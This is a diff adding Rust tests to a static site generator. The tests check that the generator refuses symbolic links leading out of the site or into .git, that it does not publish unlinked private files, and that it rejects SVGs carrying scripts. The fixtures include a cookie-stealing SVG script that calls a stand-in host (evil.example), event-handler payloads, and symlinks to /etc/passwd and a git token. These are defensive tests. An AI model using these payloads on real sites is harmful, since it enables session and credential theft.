@@ -408,3 +408,188 @@ fn killed_builds_leave_the_previous_output_whole() {
 fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>)> {
     files_under(dir).into_iter().map(|f| (f.clone(), std::fs::read(dir.join(&f)).unwrap())).collect()
 }
+
+/// A file outside the site holding `secret`, for links to point at.
+fn secret_outside(secret: &str) -> tempfile::TempDir {
+    let outside = tempfile::tempdir().unwrap();
+    std::fs::write(outside.path().join("secret.txt"), secret).unwrap();
+    outside
+}
+
+/// A pull request adds an "image" that is a symbolic link to a file of the
+/// CI machine, a link to a whole folder of it and a stylesheet linked the
+/// same way, and links to them from an entry. CI runs `gloss check` and
+/// `gloss build`: each link is an error at its own path, and nothing of
+/// what they point at reaches the output.
+#[cfg(unix)]
+#[test]
+fn symbolic_links_out_of_the_site_are_refused_and_publish_nothing() {
+    use std::os::unix::fs::symlink;
+    let secret = "CI_DEPLOY_TOKEN=hunter2-7f3a";
+    let outside = secret_outside(secret);
+    let site = TestSite::fixture("minimal").file(
+        "content/peels/leak.md",
+        "---\ntitle: Leak?\n---\n![Env](env.txt) and [the folder](machine/secret.txt) and [passwd](passwd.txt).\n",
+    );
+    symlink(outside.path().join("secret.txt"), site.path().join("content/peels/env.txt")).unwrap();
+    symlink(outside.path(), site.path().join("content/peels/machine")).unwrap();
+    symlink("/etc/passwd", site.path().join("content/peels/passwd.txt")).unwrap();
+    std::fs::create_dir_all(site.path().join("static")).unwrap();
+    symlink(outside.path().join("secret.txt"), site.path().join("static/extra.css")).unwrap();
+    for command in ["check", "build"] {
+        site.run(command)
+            .fails()
+            .stderr_has("content/peels/env.txt:1:1: error: this symbolic link points outside the site, to ")
+            .stderr_has("content/peels/machine:1:1: error: this symbolic link points outside the site, to ")
+            .stderr_has(
+                "content/peels/passwd.txt:1:1: error: this symbolic link points outside the site, to /etc/passwd",
+            )
+            .stderr_has("static/extra.css:1:1: error: this symbolic link points outside the site, to ")
+            .stderr_has("= help: gloss publishes only files inside the site folder: copy the file into the site");
+    }
+    assert!(!site.has_output(""), "a failed build writes nothing");
+}
+
+/// A link to the CI checkout's `.git/config` (where the checkout keeps its
+/// token) lies inside the site folder, but in a hidden folder: refused too.
+#[cfg(unix)]
+#[test]
+fn a_symbolic_link_into_the_git_folder_is_refused() {
+    let site = TestSite::fixture("minimal")
+        .file(".git/config", "[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n")
+        .file("content/peels/config.md", "---\ntitle: Config?\n---\n[config](config.txt)\n");
+    std::os::unix::fs::symlink("../../.git/config", site.path().join("content/peels/config.txt")).unwrap();
+    site.run("build")
+        .fails()
+        .stderr_has("content/peels/config.txt:1:1: error: this symbolic link points into `.git`, a hidden folder");
+    assert!(!site.has_output(""));
+}
+
+/// Links that stay inside the site folder (a shared images folder, a
+/// theme's stylesheet linked into `static/`) keep working.
+#[cfg(unix)]
+#[test]
+fn symbolic_links_inside_the_site_keep_working() {
+    use std::os::unix::fs::symlink;
+    let site = TestSite::fixture("minimal")
+        .file("shared/images/cream.png", "png")
+        .file("shared/print.css", "@media print { body { color: black } }")
+        .file("content/peels/cream.md", "---\ntitle: Cream?\n---\n![Cream on a cheek](images/cream.png)\n");
+    symlink("../../shared/images", site.path().join("content/peels/images")).unwrap();
+    std::fs::create_dir_all(site.path().join("static")).unwrap();
+    symlink("../shared/print.css", site.path().join("static/print.css")).unwrap();
+    site.run("build").succeeds();
+    assert_eq!(site.output("peels/images/cream.png"), "png");
+    assert!(site.output_files().contains("print.[fingerprint].css"), "{}", site.output_files());
+}
+
+/// A writer keeps private notes, a draft `.html` page and a drawing beside
+/// the entries, and a consent form the practice sends by email. Only what
+/// a page links to, and the kinds of file gloss.yaml lets through unlinked
+/// (PDFs and images by default), are published.
+#[test]
+fn files_no_page_links_to_are_not_published() {
+    let site = TestSite::fixture("minimal")
+        .file("content/peels/notes.txt", "Mrs Smith: call back about her results")
+        .file("content/peels/draft-page.html", "<script>alert(1)</script>")
+        .file("content/peels/drawing.svg", "<svg onload=\"alert(1)\"/>")
+        .file("content/peels/consent-form.pdf", "%PDF-1.4")
+        .file("content/peels/aftercare.txt", "Keep it clean.")
+        .file("content/peels/images/peel.png", "png")
+        .file("content/peels/after.md", "---\ntitle: After?\n---\nRead [the sheet](aftercare.txt).\n");
+    site.run("build").succeeds();
+    for published in ["peels/aftercare.txt", "peels/consent-form.pdf", "peels/images/peel.png"] {
+        assert!(site.has_output(published), "{published} is published:\n{}", site.output_files());
+    }
+    for private in ["peels/notes.txt", "peels/draft-page.html", "peels/drawing.svg"] {
+        assert!(!site.has_output(private), "{private} is published:\n{}", site.output_files());
+    }
+}
+
+/// `files.publish_unlinked` in gloss.yaml lists the extensions published
+/// with no link; an empty list publishes only what pages link to.
+#[test]
+fn gloss_yaml_says_which_unlinked_files_are_published() {
+    let site = TestSite::fixture("minimal")
+        .edit("gloss.yaml", |text| format!("{text}files:\n  publish_unlinked: [txt]\n"))
+        .file("content/peels/handout.txt", "Keep it clean.")
+        .file("content/peels/consent-form.pdf", "%PDF-1.4");
+    site.run("build").succeeds();
+    assert!(site.has_output("peels/handout.txt"));
+    assert!(!site.has_output("peels/consent-form.pdf"));
+}
+
+/// An SVG an entry shows that carries a script is an error at the script;
+/// the same drawing without it builds.
+#[test]
+fn an_svg_with_script_is_an_error_at_the_script() {
+    let drawing = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\">\n  <circle r=\"4\"/>\n  <script>fetch('https://evil.example/?' + document.cookie)</script>\n</svg>\n";
+    let site = TestSite::fixture("minimal")
+        .file("content/peels/layers.svg", drawing)
+        .file("content/peels/layers.md", "---\ntitle: Which layers?\n---\n![The layers of the skin](layers.svg)\n");
+    for command in ["check", "build"] {
+        site.run(command)
+            .fails()
+            .stderr_has("content/peels/layers.svg:3:3: error: this SVG has script: a <script> element")
+            .stderr_has("= help: a script in an SVG runs on the site when the file is opened");
+    }
+    assert!(!site.has_output(""));
+    let handler = "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<rect width=\"4\" onclick=\"steal()\"/>\n</svg>\n";
+    let site = site.file("content/peels/layers.svg", handler);
+    site.run("check")
+        .fails()
+        .stderr_has("content/peels/layers.svg:2:1: error: this SVG has script: an event handler `onclick=` on <rect>");
+    let site = site.file(
+        "content/peels/layers.svg",
+        drawing.replace("  <script>fetch('https://evil.example/?' + document.cookie)</script>\n", ""),
+    );
+    site.run("build").succeeds();
+    assert!(site.has_output("peels/layers.svg"));
+}
+
+/// Files under content/ at the paths of pages and files gloss makes: each
+/// is an error naming the file and what gloss makes there, and nothing is
+/// replaced.
+#[test]
+fn a_file_at_the_path_of_something_gloss_makes_is_an_error_naming_both() {
+    let site = TestSite::fixture("minimal")
+        .file("content/index.html", "<h1>Not the home page</h1>")
+        .file("content/404.html", "gone")
+        .file("content/topics/index.html", "topics")
+        .file("content/peels/does-it-sting/index.html", "fake answer")
+        .file("content/peels/print/index.html", "fake handout")
+        .file("content/robots.txt", "User-agent: *\nDisallow: /\n")
+        .file("content/search-index.js", "alert(1)")
+        .file("content/style.css", "body { display: none }")
+        .file("content/peels/how-long.md", "---\ntitle: How long does it last?\n---\nA week.\n")
+        .file("content/peels/how-long", "a file where the entry's folder goes")
+        .file("content/peels/notes.md", "---\ntitle: Notes?\n---\n[a](../index.html) [b](../404.html) [c](../topics/index.html) [d](does-it-sting/index.html) [e](print/index.html) [f](../robots.txt) [g](../search-index.js) [h](../style.css) [i](how-long)\n");
+    let run = site.run("check").fails();
+    for said in [
+        "content/index.html:1:1: error: this file would replace the home page, which gloss writes at index.html",
+        "content/404.html:1:1: error: this file would replace the page-not-found page, which gloss writes at 404.html",
+        "content/topics/index.html:1:1: error: this file would replace the page listing every topic, which gloss writes at topics/index.html",
+        "content/peels/does-it-sting/index.html:1:1: error: this file would replace the page of `Does it sting?` (content/peels/does-it-sting.md), which gloss writes at peels/does-it-sting/index.html",
+        "content/peels/print/index.html:1:1: error: this file would replace the printable handout of the guide `Peels`, which gloss writes at peels/print/index.html",
+        "content/robots.txt:1:1: error: this file would replace the robots.txt gloss makes, which gloss writes at robots.txt",
+        "content/search-index.js:1:1: error: this file would replace the search index gloss makes, which gloss writes at search-index.js",
+        "content/style.css:1:1: error: this file would replace the static file themes/clinic/static/style.css, which gloss writes at style.css",
+        "content/peels/how-long:1:1: error: this file would take the place of the folder peels/how-long/, where gloss writes the page of `How long does it last?`",
+        "= help: rename or move the file: gloss makes that path itself",
+    ] {
+        assert!(run.stderr().contains(said), "no {said:?} in:\n{}", run.terminal());
+    }
+    site.run("build").fails();
+    assert!(!site.has_output(""));
+}
+
+/// A static file of the site at the path of a page: `gloss serve`, which
+/// serves static files under their own names, would show it in the page's
+/// place.
+#[test]
+fn a_static_file_at_the_path_of_a_page_is_an_error() {
+    let site = TestSite::fixture("minimal").file("static/404.html", "<p>Our own 404</p>");
+    site.run("check").fails().stderr_has(
+        "static/404.html:1:1: error: this static file would replace the page-not-found page, which gloss writes at 404.html",
+    );
+}
